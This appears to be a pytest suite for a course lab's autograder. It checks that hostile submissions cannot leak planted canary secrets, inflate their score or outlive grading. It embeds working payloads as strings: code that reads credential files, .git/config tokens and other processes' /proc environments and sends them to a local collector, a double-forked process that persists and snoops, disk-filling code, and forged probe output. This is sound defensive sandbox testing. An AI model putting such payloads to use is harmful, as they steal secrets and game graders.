"""Grading, round two: what a submission can do with its files, its peers, the probes and the grader's limits.

Each submission is the untouched starter (worth step 1's points) or a reference, plus an attack, graded
through `make grade WORKSPACE=` (and the autograder where the attack is in the submission's files, which
both take in the same way), from a copy of the lab, with canaries in the grader's environment, in a
teacher's 0700 folder, in a 0600 file only the grader can read, in another process's environment, in a
checkout's .git/config (where a CI checkout keeps its token) and in a peer's finished clone beside the
graded one. What must hold: the grade is what the honest part earns; no canary is in any report, nor
in anything the app could read (as root: the app sees nothing of the machine but its own folders);
nothing is left running; and the reports are written whatever the submission does.

Where these run as a user with no rights here (`make test-unprivileged`), the app runs as that user and
can read what it can: the tests then check the reports and the copy, and the ones about what the app
sees skip, saying why.
"""
import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time

import psutil
import pytest

from labs.harness.lesson.waiting import wait_for
from labs.harness.reference import materialize
from labs.harness.services.web import ANSWER_LIMIT
from labs.harness.steps import load_steps

from .helpers import marked_env, once_per_session
from .hostile import AS_ROOT, CANARY, GRADERS, HONEST, DropBox, grade_hostile, lab_copy

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the guards need Linux")
needs_root = pytest.mark.skipif(not AS_ROOT, reason="only as root does the app run as a user of its own, in a "
                                                    "root of its own (CI runs these as root too)")
STEP2_POINTS = load_steps()[1].points

# What the app tries to read, from every service it runs in, and sends out; the web server also fills
# its data folder (HANDSON_DATABASE's) until the disk says no.
SNOOP = '''

# --- a hostile submission: read what the grader keeps beside it, fill the data folder ---
import json as _json
import os as _os
import socket as _socket
import sys as _sys


def _read(path):
    try:
        with open(path, "rb") as _found:
            return _found.read(2000).decode("utf-8", "replace")
    except OSError as _error:
        return "refused: " + (_error.strerror or "")


def _fill(folder):
    _names = [_os.path.join(folder, f"filler{_index}") for _index in range(64)]
    try:
        for _name in _names:  # files of 32 MiB: the limit on one file's size is not what is tried here
            with open(_name, "wb") as _out:
                for _ in range(32):
                    _out.write(b"x" * (1 << 20))
        return "wrote 2 GiB"
    except OSError as _error:
        return _error.strerror
    finally:
        for _name in _names:
            try:
                _os.remove(_name)
            except OSError:
                pass


if not _os.environ.get("SNOOP_DONE"):
    _os.environ["SNOOP_DONE"] = "1"
    _here = _os.path.dirname(__file__)
    _report = {"argv": _sys.argv[:3], "read": {path: _read(path) for path in SNOOP_PATHS + [
        _os.path.join(_here, name) for name in ("leak.txt", "Procfile", "environ")]},
        "processes": {pid: _read(f"/proc/{pid}/cmdline") for pid in _os.listdir("/proc") if pid.isdigit()}}
    if "runserver" in _sys.argv and _os.environ.get("HANDSON_DATABASE"):
        _report["fill"] = _fill(_os.path.dirname(_os.environ["HANDSON_DATABASE"]))
    try:
        with _socket.create_connection(("127.0.0.1", DROP_PORT), timeout=5) as _out:
            _out.sendall((_json.dumps(_report) + "\\n").encode())
    except OSError:
        pass
'''


class Canaries:
    """Every place a canary sits for one grade: files beside the submission, a process's environment."""

    def __init__(self, folder):
        self.folder = folder
        teacher = folder / "teacher"
        teacher.mkdir()
        (teacher / "notes.txt").write_text(f"teacher's notes {CANARY}")
        (teacher / "notes.txt").chmod(0o644)
        teacher.chmod(0o700)  # a 0644 file in a folder only its owner enters
        self.notes = teacher / "notes.txt"
        self.credentials = folder / "credentials"
        self.credentials.write_text(f"https://x:{CANARY}@github.com\n")
        self.credentials.chmod(0o600)
        self.process = subprocess.Popen(["sleep", "600"], env={"PATH": os.environ["PATH"], "SECRET": CANARY})
        peer = materialize(load_steps()[-1].number, folder / "peer")
        with open(peer / "handson" / "urls.py", "a") as urls:
            urls.write(f"# {CANARY}\n")
        self.peer = peer / "handson"

    def paths(self, checkout):
        git = checkout / ".git"
        git.mkdir(exist_ok=True)
        (git / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {CANARY}\n")
        return [str(git / "config"), str(self.peer / "urls.py"), str(self.notes), str(self.credentials),
                f"/proc/{self.process.pid}/environ", f"/proc/{os.getpid()}/environ"]

    def stop(self):
        self.process.kill()
        self.process.wait()


def _links(handson, links):
    for name, target in links.items():
        path = handson / name
        if path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(target)


@pytest.fixture(scope="module", params=GRADERS)
def with_links(request, tmp_path_factory):
    """The starter whose handson/ links to every canary (its Procfile too: steps 8, 11 and 12 read it and
    quote its lines), to devices and to itself, and whose app snoops; graded on steps 1 and 8."""
    def grade():
        folder = tmp_path_factory.mktemp("links")
        folder.chmod(0o755)
        canaries = Canaries(folder)
        # The 0600 file for `make grade`; /proc/PID/environ for the autograder (a container's PID 1 holds
        # the job's variables): each is a Procfile that a root-run lab once quoted.
        procfile = canaries.credentials if request.param == "make grade" else f"/proc/{canaries.process.pid}/environ"

        def prepare(checkout, port):
            _links(checkout / "handson", {"leak.txt": canaries.notes, "Procfile": procfile,
                                          "environ": f"/proc/{canaries.process.pid}/environ",
                                          "zero": "/dev/zero", "ptmx": "/dev/ptmx", "a": ".", "b": "."})
            init = checkout / "handson" / "__init__.py"
            init.write_text(init.read_text().replace("SNOOP_PATHS", repr(canaries.paths(checkout))))

        try:
            started = time.monotonic()
            graded = grade_hostile(folder, SNOOP, request.param, steps="1,8", prepare=prepare)
            graded.seconds = time.monotonic() - started
            return graded
        finally:
            canaries.stop()
    return once_per_session(f"links-{request.param.replace(' ', '-')}", grade)


def test_a_submission_s_links_earn_nothing_and_reach_no_report(with_links):
    graded = with_links
    assert graded.finished.returncode in (0, 1), graded.output()
    assert graded.result()["score"] == HONEST, graded.grade_md()
    assert CANARY not in graded.everything_reported(), "a canary reached the reports"
    assert not graded.left_behind, graded.left_behind
    assert graded.seconds < 120, graded.seconds  # no device read for ever, no loop copied for ever


def test_the_report_names_what_the_copy_left_out(with_links):
    report = with_links.grade_md()
    section = report.split("### Files not taken in", 1)[-1]
    for name in ("leak.txt", "Procfile", "environ", "zero", "ptmx"):
        assert f"handson/{name}: a link that leads outside handson/" in section, report
    assert "handson/a:" not in section and "handson/b:" not in section  # links to itself stay (as links)
    assert with_links.result()["not-taken-in"] == sorted(["Procfile", "environ", "leak.txt", "ptmx", "zero"])


def test_the_step_that_reads_the_procfile_names_it_without_quoting_what_it_led_to(with_links):
    step8 = [test for test in with_links.result()["tests"] if test["step"] == 8]
    assert step8 and all(test["score"] == 0 for test in step8)
    assert any("Procfile is missing" in test["message"] for test in step8), [t["message"][:200] for t in step8]


@needs_root
def test_the_app_reads_nothing_beside_its_own_files(with_links):
    """Not the checkout's .git/config, a peer's clone, the teacher's folder, a 0600 file, another
    process's environment, nor the command line of a process not its own."""
    assert len(with_links.sent) >= 2, "the graded code did not run: " + with_links.output()
    for report in with_links.sent:
        assert CANARY not in json.dumps(report), report
        for path, text in report["read"].items():
            assert text.startswith("refused"), (path, text)
        graders = ("\x00-m\x00pytest\x00", "labs.harness.tools.grade", "autograder.py")
        others = [command for command in report["processes"].values() if any(g in command for g in graders)]
        assert not others, others


@needs_root
def test_the_app_fills_its_data_folder_and_not_the_disk(with_links):
    fills = [report["fill"] for report in with_links.sent if "fill" in report]
    assert fills and all(fill == "No space left on device" for fill in fills), fills
    assert with_links.result_path.exists()


ENDLESS_PAGE = '''
# --- a hostile (or careless) submission: the page never ends ---
import itertools as _itertools

from django.http import StreamingHttpResponse as _Streaming


def _endless(self, request, *args, **kwargs):
    return _Streaming(_itertools.repeat(b"x" * 65536))


Base.get = _endless
'''


class PeakMemory(threading.Thread):
    """The most memory (RSS, bytes) the grader's own processes (root's, below ``pid``) held at once."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.most, self.done = pid, 0, threading.Event()

    def run(self):
        while not self.done.wait(0.2):
            try:
                tree = [psutil.Process(self.pid), *psutil.Process(self.pid).children(recursive=True)]
                held = sum(p.memory_info().rss for p in tree if p.uids().real == os.getuid())
            except psutil.Error:
                continue
            self.most = max(self.most, held)


def test_an_endless_page_fails_its_step_and_the_grader_reads_within_limits(tmp_path):
    lab = lab_copy(tmp_path / "lab")
    checkout = materialize(1, tmp_path / "checkout")
    with open(checkout / "handson" / "views.py", "a") as views:
        views.write(textwrap.dedent(ENDLESS_PAGE))
    mark, env = marked_env(TMPDIR=str(tmp_path), HANDSON_LAB_DIR=str(tmp_path / "state"))
    grader = subprocess.Popen([sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(checkout),
                               "--out", str(tmp_path / "out"), "--steps=1"], cwd=lab, env=env,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    peak = PeakMemory(grader.pid)
    peak.start()
    output, _ = grader.communicate(timeout=300)
    peak.done.set()
    peak.join()

    assert grader.returncode == 1, output
    result = json.loads((tmp_path / "out" / "result.json").read_text())
    assert result["score"] == 0
    report = (tmp_path / "out" / "grade.md").read_text()
    assert f"sent more than {ANSWER_LIMIT >> 20} MB" in report, report
    assert peak.most < 1 << 30, f"the grader held {peak.most >> 20} MB"


SURVIVOR = '''

# --- a hostile submission: a process that outlives its grade, and looks at the next one ---
import json as _json
import os as _os
import socket as _socket
import sys as _sys
import time as _time


def _tell(report):
    try:
        with _socket.create_connection(("127.0.0.1", DROP_PORT), timeout=5) as _out:
            _out.sendall((_json.dumps(report) + "\\n").encode())
    except OSError:
        pass


def _look():
    for _pid in _os.listdir("/proc"):
        if not _pid.isdigit() or int(_pid) == _os.getpid():
            continue
        for _where in ("cwd/handson/urls.py", "root/proc/self/environ"):
            try:
                with open(f"/proc/{_pid}/{_where}", "rb") as _found:
                    _text = _found.read(100000).decode("utf-8", "replace")
            except OSError:
                continue
            if "canary" in _text:
                _tell({"found": _text[-300:], "pid": _pid})


if "worker" in _sys.argv and not _os.environ.get("SURVIVOR_STARTED"):
    _os.environ["SURVIVOR_STARTED"] = "1"
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        _tell({"alive": _os.getpid(), "uid": _os.getuid()})
        _deadline = _time.time() + 120
        while _time.time() < _deadline:
            _look()
            _time.sleep(0.05)
        _os._exit(0)
'''


@needs_root
def test_a_survivor_of_a_killed_grade_never_sees_the_next_and_is_swept(tmp_path):
    """A grade killed outright (the memory cgroup, say) cannot stop what its submission double-forked. The
    next grade runs as uids of its own that the survivor cannot see, and sweeps the dead grade's uids."""
    drop = DropBox()
    threading.Thread(target=drop.serve_forever, daemon=True).start()
    lab = lab_copy(tmp_path / "lab")
    first = materialize(1, tmp_path / "first")
    with open(first / "handson" / "__init__.py", "a") as init:
        init.write(SURVIVOR.replace("DROP_PORT", str(drop.port)))
    second = materialize(load_steps()[-1].number, tmp_path / "second")
    with open(second / "handson" / "urls.py", "a") as urls:
        urls.write(f"# {CANARY}\n")
    survivor = None
    try:
        mark, env = marked_env(TMPDIR=str(tmp_path), HANDSON_LAB_DIR=str(tmp_path / "state"))
        killed = subprocess.Popen([sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(first),
                                   "--out", str(tmp_path / "out1"), "--steps=1"], cwd=lab, env=env,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        alive = wait_for(lambda: [r for r in drop.reports() if "alive" in r], timeout=120)
        assert alive, "the survivor did not start"
        survivor = psutil.Process(alive[0]["alive"])
        for process in [psutil.Process(killed.pid), *psutil.Process(killed.pid).children(recursive=True)]:
            if process.uids().real == 0:  # the grader's own processes, all at once; the app's die with them
                process.send_signal(signal.SIGKILL)
        killed.wait(timeout=30)
        assert survivor.is_running() and survivor.status() != psutil.STATUS_ZOMBIE, "the case did not occur"

        graded = subprocess.run([sys.executable, "-m", "labs.harness.tools.grade", "--workspace", str(second),
                                 "--out", str(tmp_path / "out2"), "--steps=1"], cwd=lab, env=env,
                                capture_output=True, text=True, timeout=300)

        assert graded.returncode == 0, graded.stdout + graded.stderr
        assert not [r for r in drop.reports() if "found" in r], [r for r in drop.reports() if "found" in r]
        assert wait_for(lambda: not survivor.is_running() or survivor.status() == psutil.STATUS_ZOMBIE,
                        timeout=10), "the dead grade's survivor still runs"
    finally:
        if survivor is not None and survivor.is_running():
            survivor.kill()
        drop.shutdown()
        drop.server_close()


PEER_PATH = '''

# --- a hostile submission: a peer's package stands in for this one, and the export probe is answered ---
import atexit as _atexit
import json as _json
import sys as _sys

__path__.append(PEER_HANDSON)  # handson.celery, handson.tasks ... found in the peer's clone

if _sys.argv == ["-c"]:  # the lab's probe of step 2 (python -c ...): print the answer it looks for
    _atexit.register(lambda: print(_json.dumps({"all": ["celery_app"], "error": None,
                                                "celery_app": "celery.app.base.Celery", "star": ["celery_app"]})))
'''


@pytest.mark.parametrize("grader", GRADERS)
def test_a_peer_s_package_and_a_forged_probe_earn_nothing(grader, tmp_path):
    """The starter whose package reaches into a peer's finished clone (__path__, a Procfile link) and
    prints the export probe's answer at exit scores what the starter scores."""
    tmp_path.chmod(0o755)
    peer = materialize(load_steps()[-1].number, tmp_path / "peer") / "handson"

    def prepare(checkout, port):
        init = checkout / "handson" / "__init__.py"
        init.write_text(init.read_text().replace("PEER_HANDSON", repr(str(peer))))
        _links(checkout / "handson", {"Procfile": peer / "Procfile"})

    graded = grade_hostile(tmp_path, PEER_PATH, grader, steps="1-2", prepare=prepare)

    assert graded.finished.returncode in (0, 1), graded.output()
    if AS_ROOT:  # without root the app runs as the grader's user, who can read the peer's clone (README)
        assert graded.result()["score"] == HONEST, graded.grade_md()
    probe = next(test for test in graded.result()["tests"] if test["test-name"].endswith("hands_django_and_celery_the_app"))
    assert not probe["passed"], probe  # the probe's answer comes on its own channel, not from a print
    assert not graded.left_behind, graded.left_behind


def test_handson_as_a_link_to_a_peer_s_scores_nothing(tmp_path):
    tmp_path.chmod(0o755)
    peer = materialize(load_steps()[-1].number, tmp_path / "peer") / "handson"

    def prepare(checkout, port):
        import shutil

        shutil.rmtree(checkout / "handson")
        (checkout / "handson").symlink_to(peer)

    graded = grade_hostile(tmp_path, "", "make grade", steps="1-2", prepare=prepare)

    assert graded.finished.returncode == 1, graded.output()
    assert graded.result()["score"] == 0
    assert "handson/ is a symbolic link, not a folder" in graded.grade_md()
    assert graded.result()["not-taken-in"] == ["handson"]


FAKE_WORKER = '''

# --- a hostile submission: a stand-in for Celery's worker that prints the lines the lab reads ---
import sys as _sys

if "worker" in _sys.argv:
    import datetime as _datetime
    import json as _json
    import os as _os
    import socket as _socket
    import time as _time

    import redis as _redis

    _node = _sys.argv[_sys.argv.index("-n") + 1].replace("%h", _socket.gethostname())
    _broker, _results = _os.environ["HANDSON_BROKER_URL"], _os.environ["HANDSON_RESULT_BACKEND"]
    _sleep = float(_os.environ.get("HANDSON_SLEEP", "1"))

    def _log(text, process="MainProcess"):
        _now = _datetime.datetime.now()
        print(f"[{_now:%Y-%m-%d %H:%M:%S},{_now.microsecond // 1000:03d}: INFO/{process}] {text}", flush=True)

    print(f" -------------- {_node} v5.7.0 (stand-in)")
    print(f"- ** ---------- .> transport:   {_broker}")
    print(f"- ** ---------- .> results:     {_results}")
    print("[tasks]\\n  . handson.tasks.hello\\n", flush=True)
    _log(f"{_node} ready.")
    _queue, _store = _redis.Redis.from_url(_broker), _redis.Redis.from_url(_results)
    while True:
        _taken = _queue.brpop("celery", timeout=1)
        if not _taken:
            continue
        _headers = _json.loads(_taken[1])["headers"]
        _log(f"Task {_headers['task']}[{_headers['id']}] received")
        _time.sleep(_sleep)
        _log("hello world", "ForkPoolWorker-1")
        _log(f"Task {_headers['task']}[{_headers['id']}] succeeded in {_sleep:.3f}s: None", "ForkPoolWorker-1")
        _store.set(f"celery-task-meta-{_headers['id']}", _json.dumps({"status": "SUCCESS", "result": None,
                                                                      "task_id": _headers["id"]}))
'''


def test_a_stand_in_worker_is_told_from_celery_s(tmp_path):
    """Step 2's reference with a stand-in for the worker: its log lines are right, but it does not answer
    Celery's remote control, and the tests that need the worker say so."""
    tmp_path.chmod(0o755)
    graded = grade_hostile(tmp_path, FAKE_WORKER, "make grade", steps="2", base=2)

    assert graded.finished.returncode == 1, graded.output()
    worker_tests = [test for test in graded.result()["tests"] if "worker" in test["test-name"]
                    or "while_the_task_runs" in test["test-name"]]
    assert worker_tests and not any(test["passed"] for test in worker_tests), worker_tests
    assert all("does not answer Celery's remote control" in test["message"] for test in worker_tests), \
        [test["message"][:300] for test in worker_tests]
    assert graded.result()["score"] < STEP2_POINTS
    assert not graded.left_behind, graded.left_behind
